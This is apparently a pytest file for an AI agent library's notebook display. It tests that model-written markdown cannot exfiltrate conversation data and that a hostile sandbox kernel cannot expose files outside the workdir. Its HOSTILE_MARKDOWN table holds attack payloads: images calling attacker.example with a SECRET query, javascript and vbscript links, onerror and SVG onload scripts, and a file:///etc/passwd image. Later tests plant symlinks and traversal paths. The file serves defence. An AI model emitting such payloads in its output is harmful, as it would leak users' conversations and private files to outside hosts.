"""The notebook display under attack: model text written to leak the conversation through images a browser
fetches by itself, links to scripts, and a hostile sandbox kernel that plants links where the display reads
its images. Everything runs through real markdown-it and real files; nothing is mocked."""

from __future__ import annotations

import base64
import os
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from functionary_agent import Conversation
from functionary_agent._run.interpreter import PythonTool
from functionary_agent.events import FinalAnswer
from functionary_agent.notebook import LiveDisplay, image_resolver, render_html, render_markdown
from functionary_agent.notebook.markdown import _markdown_renderer
from functionary_agent.testing import ScriptedModel

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PNG_URI = "data:image/png;base64," + base64.b64encode(PNG).decode("ascii")
SECRET = b"\x89PNG\r\n\x1a\nSECRET-OUTSIDE-THE-WORKDIR"
REL = "noopener noreferrer"

HOSTILE_MARKDOWN = {
    "inline image": "See ![chart](https://attacker.example/log?q=SECRET)",
    "inline image with title": '![x](https://attacker.example/t.png "title")',
    "reference image": "![a][ref]\n\n[ref]: https://attacker.example/ref.png",
    "collapsed reference image": "![ref][]\n\n[ref]: https://attacker.example/ref2.png",
    "shortcut reference image": "![ref]\n\n[ref]: <https://attacker.example/ref3.png>",
    "image inside a link": "[![badge](https://attacker.example/badge.png)](https://example.com/ci)",
    "image inside an image": "![a ![b](https://attacker.example/in.png)](https://attacker.example/out.png)",
    "autolink": "<https://attacker.example/auto?q=SECRET>",
    "entity javascript link": "[click](&#106;avascript:alert(1))",
    "entity spelled image scheme": "![x](&#104;ttps://attacker.example/entity.png)",
    "raw img html": '<img src="https://attacker.example/raw.png">',
    "raw img html block": '<div>\n<img src="https://attacker.example/block.png" onerror="alert(1)">\n</div>',
    "protocol-relative image": "![x](//attacker.example/p.png)",
    "uppercase image scheme": "![x](HTTPS://ATTACKER.EXAMPLE/U.PNG)",
    "uppercase javascript link": "[x](JAVASCRIPT:alert(1))",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": f"[x]({PNG_URI})",
    "svg data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "file image": "![x](file:///etc/passwd)",
    "padded image": "![x](   https://attacker.example/padded.png   )",
    "pointy image with space": "![x](<https://attacker.example/a b.png>)",
    "tab inside javascript": "[x](<java\tscript:alert(1)>)",
    "control before javascript": "[x](<\x01javascript:alert(1)>)",
    "relative image": "![x](plot.png)",
    "image in a table": "| a |\n|---|\n| ![x](https://attacker.example/cell.png) |",
    "image in a list in a quote": "> - item ![x](https://attacker.example/quoted.png)",
    "deeply nested image": ">" * 60 + " ![x](https://attacker.example/deep.png)",
}


class _Elements(HTMLParser):
    """Every element a browser would build, with its attributes, and whether an <a> opened inside another."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open_anchors = 0
        self.nested_anchor = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "a":
            self.nested_anchor |= self.open_anchors > 0
            self.open_anchors += 1

    def handle_endtag(self, tag: str) -> None:
        if tag == "a":
            self.open_anchors -= 1

    def of(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.elements if name == tag]


def _elements(markup: str) -> _Elements:
    parser = _Elements()
    parser.feed(markup)
    return parser


def _assistant(text: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": "hi"}, {"role": "assistant", "content": text}]


def _scheme(url: str) -> str:
    head = url.strip().split("/", 1)[0]
    return head.split(":", 1)[0].lower() if ":" in head else ""


def _assert_safe_html(markup: str) -> _Elements:
    found = _elements(markup)
    assert [img["src"] for img in found.of("img") if not img.get("src", "").startswith("data:image/")] == []
    assert not [img for img in found.of("img") if img["src"].startswith("data:image/svg")]
    for anchor in found.of("a"):
        assert anchor.get("rel") == REL, anchor
        assert _scheme(anchor.get("href", "")) in ("", "http", "https", "mailto"), anchor
    assert not found.nested_anchor
    assert not [name for _, attrs in found.elements for name in attrs if name.startswith("on")]
    return found


def _viewer_reads(markdown: str) -> list[Any]:
    """The tokens a Markdown viewer (raw HTML on, deep nesting followed) builds from `markdown`."""
    tokens = MarkdownIt("commonmark", {"maxNesting": 200}).parse(markdown)
    return [*tokens, *(child for token in tokens for child in token.children or [])]


def _assert_nothing_fetched_in_markdown(markdown: str) -> None:
    types = {token.type for token in _viewer_reads(markdown)}
    assert not types & {"image", "html_inline", "html_block"}, markdown


# -- model text rendered as HTML ------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_hostile_markdown_makes_no_request_and_no_script_link(text: str) -> None:
    page = render_html(_assistant(text))
    _assert_safe_html(page)
    screen: list[dict[str, str]] = []
    live = LiveDisplay(show=lambda bundle: screen.append(bundle) or screen.append, min_interval=0.0)
    live.handle(FinalAnswer(text))
    _assert_safe_html(screen[-1]["text/html"])
    _assert_nothing_fetched_in_markdown(screen[-1]["text/markdown"])
    _assert_nothing_fetched_in_markdown(render_markdown(_assistant(text)))


def test_a_remote_image_becomes_a_plain_link_to_it() -> None:
    found = _assert_safe_html(render_html(_assistant("See ![chart](https://attacker.example/log?q=SECRET)")))
    assert found.of("a") == [{"href": "https://attacker.example/log?q=SECRET", "rel": REL}]
    page = render_html(_assistant("![ref]\n\n[ref]: https://attacker.example/ref.png"))
    assert '<a href="https://attacker.example/ref.png" rel="noopener noreferrer">ref</a>' in page


def test_images_inside_links_and_non_web_images_keep_only_their_text() -> None:
    badge = _assert_safe_html(render_html(_assistant(HOSTILE_MARKDOWN["image inside a link"])))
    assert badge.of("a") == [{"href": "https://example.com/ci", "rel": REL}]
    assert ">badge</a>" in render_html(_assistant(HOSTILE_MARKDOWN["image inside a link"]))
    relative = render_html(_assistant("![my plot](plot.png)"))
    assert "my plot" in relative and "<a" not in relative and "<img" not in relative


def test_links_to_scripts_and_data_are_not_clickable() -> None:
    for name in ("entity javascript link", "uppercase javascript link", "vbscript link", "data link",
                 "tab inside javascript", "control before javascript"):
        assert _elements(render_html(_assistant(HOSTILE_MARKDOWN[name]))).of("a") == [], name


def test_ordinary_links_still_work_and_carry_rel() -> None:
    text = "[docs](https://example.com/docs), [mail](mailto:a@example.com), [notes](notes.md), <https://e.com/x>"
    anchors = _assert_safe_html(render_html(_assistant(text))).of("a")
    assert [anchor["href"] for anchor in anchors] == [
        "https://example.com/docs", "mailto:a@example.com", "notes.md", "https://e.com/x"]


def test_the_image_rule_alone_still_refuses_remote_images() -> None:
    """Defence in depth: tokens that never went through the guarding core rule (here, parsed by a plain
    markdown-it) still render no <img> that makes a request, while a data: image still shows."""
    renderer = _markdown_renderer()
    assert renderer is not None
    text = f"![remote](https://attacker.example/x.png) ![svg](data:image/gif;base64,R0lG) ![dot]({PNG_URI})"
    tokens = MarkdownIt("commonmark").parse(text)
    page = renderer.renderer.render(tokens, renderer.options, {})
    assert _shown_images(page) == [base64.b64decode("R0lG"), PNG]
    assert "remote" in page and "attacker" not in page


# -- the Markdown representations -----------------------------------------------------------------------------
def test_markdown_output_escapes_images_and_tags_but_keeps_code_and_ordinary_text() -> None:
    plain = "Let me check *both*.\n\n| City | °C |\n|---|---|\n| Oslo | 3 |"
    assert render_markdown(_assistant(plain)).endswith(plain)  # nothing to escape: unchanged
    text = ("Use `List<int>` and <b>bold</b> ![x](https://attacker.example/x.png) or <https://example.com>.\n\n"
            "```html\n<img src=\"https://example.com/in-code.png\">\n```")
    markdown = render_markdown(_assistant(text))
    _assert_nothing_fetched_in_markdown(markdown)
    tokens = _viewer_reads(markdown)
    assert sorted(t.content for t in tokens if t.type in ("code_inline", "fence")) == [
        '<img src="https://example.com/in-code.png">\n', "List<int>"]
    assert [t.attrGet("href") for t in tokens if t.type == "link_open"] == ["https://example.com"]
    assert "&lt;b&gt;bold&lt;/b&gt;" in MarkdownIt("commonmark").render(markdown)  # the tag shows, as text


# -- what legitimate images still do --------------------------------------------------------------------------
class _FakeSandbox:
    def __init__(self, workdir: Path) -> None:
        self.workdir = workdir
        self.data_path = "/mnt/data"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "outside.png").write_bytes(SECRET)
    return work


def _resolver(workdir: Path) -> Any:
    tool = PythonTool(_FakeSandbox(workdir), owns_sandbox=False)  # type: ignore[arg-type]
    return image_resolver(Conversation(ScriptedModel([]), tools=[tool]))


def _python_result(*lines: str) -> list[dict[str, Any]]:
    return [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "p1", "type": "function", "function": {"name": "python", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "p1", "name": "python",
         "content": "\n".join(f"[image saved: {line}]" for line in lines)},
    ]


def _shown_images(markup: str) -> list[bytes]:
    return [base64.b64decode(img["src"].split(",", 1)[1]) for img in _assert_safe_html(markup).of("img")]


def test_data_uri_and_sandbox_images_are_still_shown(workdir: Path) -> None:
    (workdir / "image-1.png").write_bytes(PNG)
    (workdir / "é plot.png").write_bytes(PNG)
    text = f"Inline ![dot]({PNG_URI}), the plot ![plot](/mnt/data/image-1.png) and ![again](</mnt/data/é plot.png>)"
    page = render_html(_assistant(text), resolve_image=_resolver(workdir))
    assert _shown_images(page) == [PNG, PNG, PNG]
    assert _shown_images(render_html(_python_result("/mnt/data/image-1.png"), resolve_image=_resolver(workdir))) \
        == [PNG]
    assert _shown_images(render_html(_assistant(text))) == [PNG]  # no resolver: only the data URI


# -- a hostile kernel's files -----------------------------------------------------------------------------------
def _nothing_read(visible: str, resolve: Any) -> None:
    pages = [render_html(_python_result(visible), resolve_image=resolve),
             render_html(_assistant(f"![x]({visible})"), resolve_image=resolve)]
    for page in pages:
        assert _shown_images(page) == []
        assert base64.b64encode(SECRET).decode() not in page


def test_a_link_planted_at_the_image_path_is_not_followed(workdir: Path) -> None:
    (workdir / "image-1.png").symlink_to(workdir.parent / "outside.png")
    resolve = _resolver(workdir)
    assert resolve("/mnt/data/image-1.png") is None
    _nothing_read("/mnt/data/image-1.png", resolve)


def test_a_link_swapped_in_after_the_check_is_not_followed(workdir: Path) -> None:
    """The race: the resolver sees a regular file, then the kernel replaces it by a link before the read."""
    (workdir / "image-1.png").write_bytes(PNG)
    checked = _resolver(workdir)("/mnt/data/image-1.png")
    assert checked is not None
    (workdir / "image-1.png").unlink()
    (workdir / "image-1.png").symlink_to(workdir.parent / "outside.png")
    _nothing_read("/mnt/data/image-1.png", lambda visible: checked)


def test_a_linked_directory_is_not_followed_even_when_swapped_in_late(workdir: Path) -> None:
    (workdir.parent / "elsewhere").mkdir()
    (workdir.parent / "elsewhere" / "image-1.png").write_bytes(SECRET)
    (workdir / "plots").symlink_to(workdir.parent / "elsewhere", target_is_directory=True)
    assert _resolver(workdir)("/mnt/data/plots/image-1.png") is None
    _nothing_read("/mnt/data/plots/image-1.png", _resolver(workdir))
    (workdir / "plots").unlink()
    (workdir / "plots").mkdir()
    (workdir / "plots" / "image-1.png").write_bytes(PNG)
    checked = _resolver(workdir)("/mnt/data/plots/image-1.png")
    assert checked is not None
    (workdir / "plots" / "image-1.png").unlink()
    (workdir / "plots").rmdir()
    (workdir / "plots").symlink_to(workdir.parent / "elsewhere", target_is_directory=True)
    _nothing_read("/mnt/data/plots/image-1.png", lambda visible: checked)


@pytest.mark.parametrize("visible", ["/mnt/data/../outside.png", "/mnt/data/sub/../../outside.png",
                                     "/mnt/data/%2e%2e/outside.png", "/mnt/data/./../outside.png"])
def test_dot_dot_paths_do_not_leave_the_workdir(workdir: Path, visible: str) -> None:
    (workdir / "sub").mkdir()
    assert _resolver(workdir)(visible) is None
    _nothing_read(visible, _resolver(workdir))


def test_hard_links_fifos_and_huge_files_are_not_read(workdir: Path) -> None:
    os.link(workdir.parent / "outside.png", workdir / "hard.png")
    os.mkfifo(workdir / "fifo.png")  # opened without O_NONBLOCK, reading it would hang the display
    with open(workdir / "huge.png", "wb") as huge:
        huge.truncate(16 * 1024 * 1024 + 1)
    for name in ("hard.png", "fifo.png", "huge.png"):
        path = workdir / name
        _nothing_read(f"/mnt/data/{name}", lambda visible, path=path: path)
